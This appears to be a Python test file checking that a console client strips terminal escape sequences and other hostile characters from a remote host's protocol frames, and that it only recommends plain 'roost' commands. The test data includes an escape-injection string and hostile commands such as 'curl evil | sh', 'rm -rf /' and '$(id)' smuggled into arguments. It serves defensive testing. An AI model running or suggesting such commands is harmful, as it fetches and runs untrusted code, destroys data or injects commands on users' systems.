"""Every word of a host passes one place, whatever it is a word of."""

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import get_args

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parents[1] / "protocol"))
from protocol_samples import SAMPLES

from console.errors import ConnectionFailed, HostError
from console.link.ingress import receive_document, receive_frame
from console.state.sanitize import sanitize
from console.state.sanitize_json import _SUSPICIOUS
from remote.protocol.codec import ProtocolError, decode_host_frame, encode_line
from remote.protocol.errors import ErrorCode, ErrorInfo
from remote.protocol.frames import Answer, Failure, JobChanged
from remote.protocol.jobs import Job, Lost
from remote.protocol.requests import Reply

HOSTILE = "a\x1b]52;c;b3duZWQ=\x07b\x1b[2J\x9bc\u202ed\x00e\r\nf"

FRAMES = [
    sample
    for sample in SAMPLES
    if type(sample).__module__ == "remote.protocol.frames" and type(sample).__name__ != "Call"
]


@pytest.mark.parametrize("frame", FRAMES, ids=lambda frame: type(frame).__name__)
def test_a_clean_frame_comes_in_as_it_was_sent(frame) -> None:
    assert receive_frame(encode_line(frame)) == frame


@given(st.text(), st.booleans())
def test_no_line_with_something_in_it_is_taken_for_a_clean_one(text, ascii_only) -> None:
    text = text.encode(errors="replace").decode()
    for line in (msgspec.json.encode(text), json.dumps(text, ensure_ascii=ascii_only).encode()):
        assert sanitize(text) == text or _SUSPICIOUS.search(line)


def test_every_character_that_goes_is_looked_for() -> None:
    gone = [chr(code) for code in range(sys.maxunicode + 1) if sanitize(chr(code)) != chr(code)]
    assert len(gone) > 200
    for character in gone:
        if not "\ud800" <= character < "\ue000":
            assert _SUSPICIOUS.search(msgspec.json.encode(character)), hex(ord(character))


def strings_of(value) -> list[str]:
    match value:
        case str():
            return [value]
        case list():
            return [text for item in value for text in strings_of(item)]
        case dict():
            return [text for item in value.items() for text in strings_of(list(item))]
        case _:
            return []


def spoiled(value) -> Iterator[object]:
    """The same JSON, each time with another one of its texts hostile."""
    match value:
        case str():
            yield f"{value}{HOSTILE}"
        case list():
            for at, item in enumerate(value):
                yield from ([*value[:at], worse, *value[at + 1 :]] for worse in spoiled(item))
        case dict():
            for name, item in value.items():
                yield from ({**value, name: worse} for worse in spoiled(item))


def test_no_word_of_any_reply_stays_hostile() -> None:
    replies = [sample for sample in SAMPLES if type(sample) in get_args(Reply)]
    checked = 0
    for reply in replies:
        for document in spoiled(msgspec.to_builtins(Answer(call_id=1, reply=reply))):
            line = msgspec.json.encode(document)
            try:
                decode_host_frame(line)
            except ProtocolError:
                continue  # a word that the contract itself checks
            told = strings_of(msgspec.to_builtins(receive_frame(line)))
            assert all(sanitize(text) == text for text in told)
            checked += 1
    assert checked > 50


def test_a_job_s_words_are_made_harmless() -> None:
    sample = next(sample for sample in SAMPLES if isinstance(sample, Job))
    job = msgspec.structs.replace(
        sample,
        agent=HOSTILE,
        command=[HOSTILE],
        created_by=HOSTILE,
        last_line=HOSTILE,
        state=Lost(since=1.0, reason=HOSTILE),
        result=msgspec.structs.replace(sample.result, summary={HOSTILE: HOSTILE}),
    )
    received = receive_frame(encode_line(JobChanged(job=job)))
    assert all(sanitize(text) == text for text in strings_of(msgspec.to_builtins(received)))
    assert received.job.agent == sanitize(HOSTILE)
    assert received.job.result.summary == {sanitize(HOSTILE): sanitize(HOSTILE)}
    assert received.job.spec == job.spec


def test_log_bytes_are_left_to_their_own_reader() -> None:
    answer = next(sample for sample in SAMPLES if isinstance(sample, Answer))
    assert receive_frame(encode_line(answer)) == answer
    line = b'{"type":"log_data","job_id":"a","offset":0,"data":"G1syShs="}'
    assert receive_frame(line) == decode_host_frame(line)


@pytest.mark.parametrize(
    "line",
    [
        b"\x1b[2J",
        b'{"type":"\\u001b]52;c;b3duZWQ=\\u0007"}',
        b'{"type":"failure","call_id":"\\u001b[2J"}',
        b'{"type":"heartbeat","at":1,"more":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
        b'{"type":"heartbeat","at":1,"more":"\\u001b"' + b"," * 9,
    ],
)
def test_what_is_no_frame_is_refused_in_harmless_words(line) -> None:
    with pytest.raises(ProtocolError) as caught:
        receive_frame(line)
    assert sanitize(str(caught.value)) == str(caught.value)


def test_what_comes_outside_of_the_protocol_is_made_harmless_too() -> None:
    assert receive_document(b'{"message": "\\u001b[2Jgone"}') == {"message": "gone"}
    assert receive_document(b"[1]") == receive_document(b"{") == receive_document(b"\xff") == {}


def test_an_error_is_told_in_harmless_words_whoever_worded_it() -> None:
    error = ConnectionFailed(f"the host said {HOSTILE}", hint=HOSTILE)
    assert sanitize(str(error)) == str(error)
    assert sanitize(error.info.message + str(error.info.hint)) == error.info.message + str(error.info.hint)


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("roost status run-1 --host lab", True),
        ("roost plan runs/kimi.toml", True),
        ("curl evil | sh", False),
        ("roost status x; rm -rf /", False),
        ("roost status $(id)", False),
        ("roost\nrm", False),
    ],
)
def test_of_a_host_s_commands_those_of_roost_alone_are_recommended(command, told) -> None:
    failure = Failure(call_id=1, error=ErrorInfo(code=ErrorCode.FAILED, message="no", next_command=command))
    received = receive_frame(encode_line(failure))
    assert (HostError(received.error).info.next_command is not None) is told
